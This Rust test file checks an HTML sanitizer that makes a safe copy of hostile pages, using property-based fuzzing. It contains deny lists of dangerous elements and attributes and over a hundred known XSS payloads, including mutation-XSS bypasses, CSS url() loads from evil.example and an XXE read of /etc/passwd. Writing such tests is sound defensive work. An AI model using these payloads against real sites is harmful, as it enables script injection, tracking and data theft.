//! The copy for the browser against hostile HTML: read again as browsers do, nothing in it runs, loads or leaves.

use super::{Address, safe_page};
use html5ever::serialize::{SerializeOpts, serialize};
use html5ever::tendril::TendrilSink;
use html5ever::{ParseOpts, parse_document};
use markup5ever_rcdom::{Handle, NodeData, RcDom, SerializableHandle};
use proptest::prelude::*;

/// Elements that run, embed, load, submit or rebase.
const FORBIDDEN: [&str; 35] = [
    "script",
    "iframe",
    "frame",
    "frameset",
    "object",
    "embed",
    "applet",
    "portal",
    "base",
    "link",
    "style",
    "svg",
    "math",
    "form",
    "input",
    "button",
    "textarea",
    "select",
    "video",
    "audio",
    "source",
    "track",
    "picture",
    "template",
    "noscript",
    "noembed",
    "noframes",
    "xmp",
    "plaintext",
    "listing",
    "marquee",
    "bgsound",
    "isindex",
    "keygen",
    "slot",
];
/// Attributes that name what a browser loads or follows by itself, whatever the element.
const LOADING: [&str; 16] = [
    "srcset",
    "srcdoc",
    "action",
    "formaction",
    "poster",
    "background",
    "data",
    "ping",
    "manifest",
    "archive",
    "codebase",
    "classid",
    "lowsrc",
    "dynsrc",
    "profile",
    "longdesc",
];

/// What a style loads something by, or may spell that with.
const LOADED_BY_STYLE: [&str; 11] = [
    "url",
    "image(",
    "image-set(",
    "src(",
    "cross-fade(",
    "element(",
    "paint(",
    "import",
    "expression(",
    "binding",
    "\\",
];

/// A picture of the person's own folder, as the copy has it.
const OWN: &str = "data:image/png;base64,AA";

/// The copy of a text: `own.png` is there, no other picture is.
fn copy(html: &str) -> String {
    safe_page("t", html, |address| (address == "own.png").then(|| OWN.to_owned()))
}

fn parsed(page: &str) -> RcDom {
    parse_document(RcDom::default(), ParseOpts::default()).one(page)
}

/// What in a page would run, load or leave it; nothing where it is safe.
fn faults(page: &str) -> Vec<String> {
    let dom = parsed(page);
    let mut found = Vec::new();
    let mut open: Vec<(Handle, bool)> = vec![(dom.document.clone(), false)];
    while let Some((node, in_body)) = open.pop() {
        let mut inside = in_body;
        if let NodeData::Element { name, attrs, .. } = &node.data {
            let element = &*name.local;
            inside |= element == "body";
            let attributes = attrs.borrow();
            let attributes: Vec<(&str, &str)> =
                attributes.iter().map(|it| (&*it.name.local, &*it.value)).collect();
            // The program's own policy is in the head.
            if FORBIDDEN.contains(&element) || (in_body && matches!(element, "meta" | "title" | "head")) {
                found.push(format!("<{element}>"));
            }
            found.extend(
                attributes
                    .iter()
                    .filter(|(name, value)| !is_harmless(element, name, value))
                    .map(|(name, value)| format!("<{element} {name}={value:?}>")),
            );
        }
        open.extend(node.children.borrow().iter().map(|child| (child.clone(), inside)));
    }
    found
}

fn is_harmless(element: &str, name: &str, value: &str) -> bool {
    let is_web = || {
        let url = url::Url::parse(value);
        url.is_ok_and(|url| matches!(url.scheme(), "http" | "https"))
            && matches!(Address::of(value), Address::Web(_))
    };
    match name {
        "src" => element == "img" && value == OWN,
        "href" => element == "a" && is_web(),
        "style" => LOADED_BY_STYLE.iter().all(|word| !value.to_ascii_lowercase().contains(word)),
        _ => !name.starts_with("on") && !name.contains(':') && !LOADING.contains(&name) && name != "cite",
    }
}

/// The page as a browser that changes it would write it: what mutation attacks rely on.
fn written_again(page: &str) -> String {
    let mut bytes = Vec::new();
    let document = SerializableHandle::from(parsed(page).document);
    serialize(&mut bytes, &document, SerializeOpts::default()).expect("memory takes it");
    String::from_utf8(bytes).expect("a page is text")
}

/// Known attacks, after the cheat sheets of OWASP and PortSwigger and the published bypasses of DOMPurify, Mozilla
/// Bleach, Google's Closure and ammonia.
const ATTACKS: &[&str] = &[
    // Scripts and handlers, spelled in every way.
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script/xss src='https://evil.example/x.js'></script>",
    "<<script>alert(1);//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x0c>alert(1)</script\x0c>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x:x\" onerror=alert(1)//\">",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<img src='own.png' onload\x0b=alert(1) onload\n=\nalert(1)>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<body onload=alert(1)>",
    "<html onclick=alert(1)><body onpageshow=alert(1) background=https://evil.example/x.png>",
    "<details open ontoggle=alert(1)>",
    "<p style='animation-name:x' onanimationstart=alert(1)>",
    "<a href=# autofocus onfocus=alert(1) tabindex=1>x</a>",
    "<marquee onstart=alert(1)>",
    "<video><source onerror=alert(1)></video><audio src=https://evil.example/x.mp3 autoplay>",
    "<x contenteditable onblur=alert(1)>lose focus!",
    "<select onchange=alert(1)><option>1<option>2</select>",
    // Addresses.
    "<a href=javascript:alert(1)>x</a>",
    "<a href='&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)'>x</a>",
    "<a href='&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)'>x</a>",
    "<a href='jav&Tab;ascript&colon;alert(1)'>x</a>",
    "<a href='jav&NewLine;ascript:alert(1)'>x</a>",
    "<a href=' &#14;  javascript:alert(1)'>x</a>",
    "<a href='\u{1}\u{2}java\nscript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt://%0aalert(1)'>x</a>",
    "<a href='javascript://[x%0aalert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='data:image/svg+xml,<svg onload=alert(1)>'>x</a>",
    "<a href='data:,x'>x</a><a href='feed:javascript:alert(1)'>y</a><a href='view-source:javascript:alert(1)'>z</a>",
    "<a href='blob:https://evil.example/1'>x</a><a href='file:///etc/passwd'>y</a>",
    "<a href='/\\evil.example'>x</a><a href='\\\\evil.example'>y</a><a href='https:evil.example'>z</a>",
    "<a href=https://a.example ping=https://evil.example target=_blank rel=opener>x</a>",
    "<img src=javascript:alert(1)><img dynsrc=javascript:alert(1)><img lowsrc=javascript:alert(1)>",
    "<img src='data:text/html,<script>alert(1)</script>'><img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img srcset='https://evil.example/x.png 1x' src=own.png>",
    "<img src=https://evil.example/track.gif><img src=//evil.example/track.gif>",
    "<blockquote cite=javascript:alert(1)>x</blockquote><q cite=https://evil.example>y</q>",
    "<table background=https://evil.example/x.png><td background=javascript:alert(1)>",
    // Styles that load.
    "<p style=\"background: url(https://evil.example/x.png)\">x</p>",
    "<p style='background-image:URL( \"//evil.example/x.png\" )'>x</p>",
    "<p style='background:u\\72l(https://evil.example/x.png)'>x</p>",
    "<p style='background:\\000075\\000072\\00006c(https://evil.example/x.png)'>x</p>",
    "<p style='background:&#117;rl(https://evil.example/x.png)'>x</p>",
    "<p style='color:red;background:url(\"https://evil.example/a;b.png\");width:1px'>x</p>",
    "<p style='background:image-set(\"https://evil.example/x.png\" 1x)'>x</p>",
    "<p style='background:-webkit-image-set(url(//evil.example/x) 1x);background:image(\"//evil.example/x\")'>x</p>",
    "<p style='background:cross-fade(url(//evil.example/x), red);cursor:url(//evil.example/x),auto'>x</p>",
    "<ul style='list-style:url(//evil.example/x)'><li style='filter:url(//evil.example/x.svg#f)'>x</ul>",
    "<p style='--x:url(//evil.example/x);background:var(--x)'>x</p>",
    "<p style='content:src(\"//evil.example/x\");mask:url(//evil.example/x)'>x</p>",
    "<p style='background:red/**/url(//evil.example/x)'>x</p>",
    "<p style='background:rgb(0,0,0)url(//evil.example/x)'>x</p>",
    "<p style='width:expression(alert(1));-moz-binding:url(//evil.example/x.xml#x)'>x</p>",
    "<p style='@import \"https://evil.example/x.css\"'>x</p>",
    "<p style=\"background: \"url(//evil.example/x)\">x</p>",
    // Other pages, forms, what is loaded.
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=data:text/html,<script>alert(1)</script>></object>",
    "<embed src=https://evil.example/x.swf allowscriptaccess=always>",
    "<applet code=x codebase=https://evil.example></applet><portal src=https://evil.example>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta http-equiv=Content-Security-Policy content='script-src *'>",
    "<base href='javascript:alert(1)//'><a href=x>y</a>",
    "<link rel=stylesheet href=https://evil.example/x.css><link rel=import href=x><link rel=preload as=image href=//evil.example>",
    "<style>@import 'https://evil.example/x.css'; p {background: url(javascript:alert(1))}</style>",
    "<form action=javascript:alert(1)><button formaction=javascript:alert(1)>x</button><input type=image src=//evil.example>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<math href=javascript:alert(1)>x</math><math><maction actiontype=statusline xlink:href=javascript:alert(1)>y",
    "<svg onload=alert(1)><script xlink:href=data:,alert(1) /></svg>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x'></use></svg>",
    "<svg><set attributeName=onmouseover to=alert(1)><foreignObject><iframe src=javascript:alert(1)>",
    "<svg><image href=https://evil.example/x.png><feimage xlink:href=//evil.example>",
    "<?xml-stylesheet href='javascript:alert(1)'?><?import namespace=t implementation=x?>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><p>&e;</p>",
    // Comments, CDATA, and texts that end otherwise than they seem to.
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--- --!><img src=x onerror=alert(1)>",
    "<!-- <!-- --> <script>alert(1)</script> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<svg><![CDATA[</svg><img src=x onerror=alert(1)>]]>",
    "<title><img src=x onerror=alert(1)></title><title></title><script>alert(1)</script>",
    "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<template><img src=x onerror=alert(1)><script>alert(1)</script></template>",
    "<div><template shadowrootmode=open><img src=x onerror=alert(1)></template></div>",
    "</body></html><script>alert(1)</script>",
    "</title></head><body onload=alert(1)>",
    "<p title=\"x\">y</p title=\"><img src=x onerror=alert(1)>\">",
    "<img alt=`x` title=`<img src=x onerror=alert(1)>`>",
    // Mutation: what is safe when it is read, and no longer when it has been written and read again.
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><mtext><table><mglyph><style><math><img src=x onerror=alert(1)>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><mtext><mglyph><svg><mtext><textarea><path id='</textarea><img onerror=alert(1) src=1>'>",
    "<svg><desc><table><thead><style><!--</style></thead></table></desc><img title='--><img src=x onerror=alert(1)>'></svg>",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "<svg><foreignObject><p><style><!--</p><img src=x onerror=alert(1)>--></style></foreignObject></svg>",
    "<svg><title><style><!--</style></title><img src=x onerror=alert(1)>-->",
    "<svg><font color=x><title><a title='</title><img src=x onerror=alert(1)>'>",
    "<svg></p><title><a id='</title><img src=x onerror=alert(1)>'></a>",
    "<svg><br><textarea><p title='</textarea><img src=x onerror=alert(1)>'>",
    "<noscript><style></noscript><img src=x onerror=alert(1)></style>",
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "<select><iframe><select><img src=x onerror=alert(1)>",
    "<table><td><svg></table><style><a title='</style><img src=x onerror=alert(1)>'>",
    "<a><table><a href=javascript:alert(1)>x</table></a>",
    "<b><p><b><script>alert(1)</script></p></b>",
    "<image src=x onerror=alert(1)>",
    "<math><style><!--</style><img src=x onerror=alert(1)>--></math>",
];

#[test]
fn known_attacks_do_nothing() {
    for attack in ATTACKS {
        for html in
            [(*attack).to_owned(), format!("<table><tr><td>{attack}</table>"), format!("<b><p>{attack}</b>x")]
        {
            let page = copy(&html);
            assert_eq!(faults(&page), [] as [String; 0], "{html}\n{page}");
            let again = written_again(&page);
            assert_eq!(faults(&again), [] as [String; 0], "written again: {html}\n{again}");
        }
    }
}

#[test]
fn what_does_something_is_a_fault_here() {
    for html in [
        "<script>x</script>",
        "<p onclick=x>",
        "<a href=javascript:x>",
        "<a href=data:text/html,x>",
        "<a href=/x>",
        "<img src=https://a.example/x.png>",
        "<img src=own.png srcset=x>",
        "<svg>",
        "<p xlink:href=x>",
        "<base href=x>",
        "<body><meta http-equiv=refresh>",
        "<q cite=https://a.example>",
        "<p style='background: URL(x)'>",
        "<p style='background: u\\72l(x)'>",
    ] {
        assert_ne!(faults(html), [] as [String; 0], "{html}");
    }
}

#[test]
fn what_is_harmless_stays_among_attacks() {
    let kept = "<h1>Gold card</h1><p>No <b>fees</b> <a href='https://bank.example/x'>more</a> <img src=own.png alt=card></p>";
    for attack in
        ["<svg onload=x></svg>", "<script>x</script>", "<iframe src=x></iframe>", "<img src=x onerror=x>"]
    {
        let page = copy(&format!("{attack}{kept}{attack}"));
        for part in ["<h1>Gold card</h1>", "<b>fees</b>", "href=\"https://bank.example/x\"", OWN] {
            assert!(page.contains(part), "{part}: {page}");
        }
    }
}

#[test]
fn a_style_keeps_what_loads_nothing() {
    let style = "color: rgb(1, 2, 3); background: url('https://evil.example/a;b.png'); width: calc(1px + 2%);\
                 background: linear-gradient(red, blue); font-family: 'a b'";
    let page = copy(&format!("<p style=\"{style}\">x</p><p style=\"background:url(own.png)\">y</p>"));
    for kept in ["color: rgb(1, 2, 3)", "width: calc(1px + 2%)", "linear-gradient(red, blue)", "'a b'"] {
        assert!(page.contains(kept), "{kept}: {page}");
    }
    assert!(!page.contains("evil") && page.contains("<p>y</p>"), "{page}");
}

#[test]
fn the_policy_of_the_copy_lets_nothing_be_fetched() {
    let page = copy("x");
    let policy =
        page.split("Content-Security-Policy\" content=\"").nth(1).and_then(|it| it.split('"').next());
    let directives: Vec<Vec<&str>> =
        policy.expect("a policy").split(';').map(|it| it.split_whitespace().collect()).collect();
    assert!(directives.contains(&vec!["default-src", "'none'"]), "{directives:?}");
    let sources = directives.iter().flat_map(|directive| &directive[1..]);
    assert!(sources.clone().all(|it| ["'none'", "data:", "'unsafe-inline'"].contains(it)), "{directives:?}");
    // Pictures of styles are pictures to the policy; data holds them itself.
    assert!(directives.contains(&vec!["img-src", "data:"]), "{directives:?}");
}

/// Pieces of attacks: elements that change how what follows is read, ends that do not fit, and what would run.
fn piece() -> impl Strategy<Value = String> {
    const ELEMENTS: &[&str] = &[
        "svg",
        "math",
        "style",
        "title",
        "textarea",
        "noscript",
        "template",
        "table",
        "td",
        "select",
        "option",
        "form",
        "mtext",
        "mglyph",
        "annotation-xml",
        "foreignObject",
        "desc",
        "xmp",
        "plaintext",
        "iframe",
        "script",
        "a",
        "p",
        "b",
        "listing",
        "noembed",
        "font",
        "br",
        "frameset",
        "body",
        "html",
        "object",
        "button",
    ];
    const TEXTS: &[&str] = &[
        "<img src=x onerror=alert(1)>",
        "<script>alert(1)</script>",
        "<a href=javascript:alert(1)>",
        "<!--",
        "-->",
        "--!>",
        "<![CDATA[",
        "]]>",
        "<a title='",
        "'>",
        "\"",
        "&lt;script&gt;",
        "&#x3c;img onerror=x&#x3e;",
        "</",
        "<",
        ">",
        "<img src=//evil.example/x>",
        "<a href=data:text/html,x>",
        "\0",
        "x",
        "<base href=//evil.example>",
        "<meta http-equiv=refresh content=0>",
        "<p id='</style><img src=x onerror=x>'>",
    ];
    prop_oneof![
        2 => prop::sample::select(ELEMENTS).prop_map(|name| format!("<{name}>")),
        1 => prop::sample::select(ELEMENTS).prop_map(|name| format!("</{name}>")),
        1 => prop::sample::select(ELEMENTS).prop_map(|name| format!("<{name} href=javascript:x src=//evil.example onload=x>")),
        2 => prop::sample::select(TEXTS).prop_map(str::to_owned),
        1 => prop::sample::select(ATTACKS).prop_map(str::to_owned),
    ]
}

/// Pieces one after the other and inside each other.
fn nested() -> impl Strategy<Value = String> {
    piece().prop_recursive(4, 24, 4, |inner| {
        prop_oneof![
            prop::collection::vec(inner.clone(), 1..5).prop_map(|pieces| pieces.concat()),
            (
                prop::sample::select(&["svg", "math", "style", "table", "p", "b", "a", "title", "form"][..]),
                inner.clone()
            )
                .prop_map(|(name, inner)| format!("<{name}>{inner}</{name}>")),
            inner.prop_map(|inner| format!("<p title='{inner}'>")),
        ]
    })
}

proptest! {
    #[test]
    fn hostile_pieces_do_nothing_however_they_are_nested(html in nested()) {
        let page = copy(&html);
        prop_assert_eq!(faults(&page), [] as [String; 0], "{}", page);
        let again = written_again(&page);
        prop_assert_eq!(faults(&again), [] as [String; 0], "written again: {}", again);
    }
}
